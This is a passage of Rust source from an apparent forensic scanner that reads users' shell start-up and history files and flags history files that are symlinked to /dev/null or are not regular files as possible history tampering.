    startup_files: Vec<String>,
}

fn join_home(home: &[u8], rel: &[u8]) -> PathBuf {
    let mut p = PathBuf::from(OsStr::from_bytes(home));
    p.push(OsStr::from_bytes(rel));
    p
}

fn guess_format(p: &[u8]) -> Shell {
    let name = basename(p);
    if memchr::memmem::find(name, b"zsh").is_some()
        || memchr::memmem::find(name, b"zhist").is_some()
    {
        Shell::Zsh
    } else if memchr::memmem::find(name, b"fish").is_some() {
        Shell::Fish
    } else if name == b".sh_history" || name == b".ash_history" {
        Shell::Sh
    } else {
        Shell::Bash
    }
}

/// The directories of one home, each opened and listed once.
#[derive(Default)]
struct Dirs {
    open: BTreeMap<PathBuf, Option<(DirHandle, BTreeMap<std::ffi::OsString, Option<FileKind>>)>>,
}

impl Dirs {
    /// Whether `dir`, a directory below `home` (`.config/fish`, `.local/share/fish`), is
    /// certainly not there: the home was listed and has no entry of its first component. Saves
    /// a walk from the root for each such directory of every home.
    fn absent_below(
        &mut self,
        root: &HostRoot,
        home: &[u8],
        dir: &Path,
        errors: &mut Vec<ErrorRecord>,
    ) -> bool {
        let home = Path::new(OsStr::from_bytes(home));
        let Ok(rel) = dir.strip_prefix(home) else {
            return false;
        };
        let Some(std::path::Component::Normal(first)) = rel.components().next() else {
            return false;
        };
        match self.get(root, home, errors) {
            Some((_, names)) => !names.contains_key(first),
            None => false,
        }
    }

    /// The directory and its listing (name and `d_type`); `None` when it is not there.
    fn get(
        &mut self,
        root: &HostRoot,
        parent: &Path,
        errors: &mut Vec<ErrorRecord>,
    ) -> Option<&(DirHandle, BTreeMap<std::ffi::OsString, Option<FileKind>>)> {
        self.open
            .entry(parent.to_path_buf())
            .or_insert_with(|| {
                let listed = root.open_dir(parent).and_then(|d| {
                    let names = d.entries()?.into_iter().map(|e| (e.name, e.kind)).collect();
                    Ok((d, names))
                });
                match listed {
                    Ok(x) => Some(x),
                    Err(e)
                        if e.is_not_found()
                            || matches!(e, ferret_core::Error::WrongKind { .. }) =>
                    {
                        None
                    }
                    Err(e) => {
                        errors.push(ErrorRecord::from(&e));
                        None
                    }
                }
            })
            .as_ref()
    }
}

fn read_home(
    root: &HostRoot,
    a: &Account,
    system_histfile: Option<&[u8]>,
    opts: &HistoryOptions,
    ctl: &Control,
) -> HomeRead {
    let mut h = HomeRead::default();
    let mut dirs = Dirs::default();
    let mut histfile = system_histfile.map(<[u8]>::to_vec);
    for rel in USER_STARTUP {
        let p = join_home(&a.home, rel.as_bytes());
        let (Some(parent), Some(name)) = (p.parent(), p.file_name()) else {
            continue;
        };
        if dirs.absent_below(root, &a.home, parent, &mut h.errors) {
            continue;
        }
        let Some((dir, names)) = dirs.get(root, parent, &mut h.errors) else {
            continue;
        };
        // A start-up file that is a symlink (dotfile managers) is not followed.
        if !matches!(names.get(name), Some(Some(FileKind::Regular) | None)) {
            continue;
        }
        let data = dir
            .open_file_at(name, &OpenOptions::new().max_size(opts.max_file_size))
            .and_then(|mut f| f.read_capped(opts.max_file_size));
        match data {
            Ok(data) => {
                let s = startup(&p, &data);
                h.findings.extend(s.findings);
                histfile = s.histfile.or(histfile);
                h.startup_files.push(path_str(&p));
            }
            Err(e) if e.is_not_found() || matches!(e, ferret_core::Error::WrongKind { .. }) => {}
            Err(e) => h.errors.push(ErrorRecord::from(&e)),
        }
    }
    let mut candidates: Vec<(PathBuf, Shell, bool)> = Vec::new();
    for shell in Shell::ALL {
        for f in shell.files() {
            candidates.push((join_home(&a.home, f.as_bytes()), *shell, false));
        }
    }
    if let Some(hf) = histfile {
        let p = match hf.strip_prefix(b"~/") {
            Some(r) => join_home(&a.home, r),
            None => PathBuf::from(OsStr::from_bytes(&hf)),
        };
        let p = HostRoot::inner(&p);
        if !candidates.iter().any(|(c, ..)| HostRoot::inner(c) == p) {
            candidates.push((p, guess_format(&hf), true));
        }
    }
    for (p, format, from_histfile) in candidates {
        if ctl.is_cancelled() {
            break;
        }
        let (Some(parent), Some(name)) = (p.parent(), p.file_name()) else {
            continue;
        };
        if dirs.absent_below(root, &a.home, parent, &mut h.errors) {
            continue;
        }
        let Some((dir, names)) = dirs.get(root, parent, &mut h.errors) else {
            continue;
        };
        if !names.contains_key(name) {
            continue;
        }
        read_history(dir, name, &a.name, format, from_histfile, opts, ctl, &mut h);
    }
    h
}

#[allow(clippy::too_many_arguments)]
fn read_history(
    dir: &DirHandle,
    name: &OsStr,
    user: &[u8],
    format: Shell,
    from_histfile: bool,
    opts: &HistoryOptions,
    ctl: &Control,
    h: &mut HomeRead,
) {
    let st = match dir.stat_at(name) {
        Ok(s) => s,
        Err(e) if e.is_not_found() => return,
        Err(e) => {
            h.errors.push(ErrorRecord::from(&e));
            return;
        }
    };
    let path = path_str(&dir.child_path(name));
    let mut src = HistorySource {
        user: user.to_vec(),
        path: path.clone(),
        format,
        state: SourceState::Read,
        commands: 0,
        bytes: 0,
        cut: false,
        binary: false,
        from_histfile,
    };
    let mut data = None;
    match st.kind {
        FileKind::Directory => return,
        FileKind::Symlink => {
            let target = dir.read_link_at(name).unwrap_or_default();
            let null = target == b"/dev/null" || target.ends_with(b"/dev/null");
            h.findings.push(
                Finding::new(
                    "history.symlink",
                    if null {
                        Severity::High
                    } else {
                        Severity::Medium
                    },
                    if null {
                        "history file is a symlink to /dev/null"
                    } else {
                        "history file is a symlink"
                    },
                    path.as_bytes(),
                )
                .with_evidence(Evidence::file(path.as_bytes()).with_excerpt(&target))
                .with_attack("T1070.003")
                .with_detail(format!(
                    "{} -> {} (not followed)",
                    path,
                    escape(&target)
                )),
            );
            src.state = SourceState::Symlink { target };
        }
        FileKind::Regular if st.size == 0 => src.state = SourceState::Empty,
        FileKind::Regular => {
            match dir.open_file_expecting(name, Expected::Same(&st), &OpenOptions::new()) {
                Ok(f) => {
                    let mut buf = Vec::with_capacity(
                        usize::try_from(st.size.min(opts.max_file_size)).unwrap_or(0),
                    );
                    match f.file().take(opts.max_file_size).read_to_end(&mut buf) {
                        Ok(_) => {
                            ctl.charge(buf.len() as u64);
                            src.bytes = buf.len() as u64;
                            src.cut =
                                st.size > opts.max_file_size || f.stat().size > opts.max_file_size;
                            let ksh = format == Shell::Sh && buf.starts_with(&[0x81, 0x01]);
                            src.binary = !ksh && memchr::memchr(0, &buf).is_some();
                            data = Some(buf);
                        }
                        Err(e) => {
                            h.errors.push(ErrorRecord::new(
                                Some(path.as_bytes()),
                                None,
                                e.to_string(),
                            ));
                            src.state = SourceState::Unreadable;
                        }
                    }
                }
                Err(e) => {
                    h.errors.push(ErrorRecord::from(&e));
                    src.state = SourceState::Unreadable;
                }
            }
        }
        kind => {
            h.findings.push(
                Finding::new(
                    "history.not-regular",
                    Severity::High,
                    "history file is not a regular file",
                    path.as_bytes(),
                )
                .with_evidence(Evidence::file(path.as_bytes()))
                .with_attack("T1070.003")
                .with_detail(format!("{path} is a {} (not opened)", kind.as_str())),
            );
            src.state = SourceState::NotRegular {
                kind: kind.as_str(),
            };
        }
    }
    h.files.push((src, data));
}
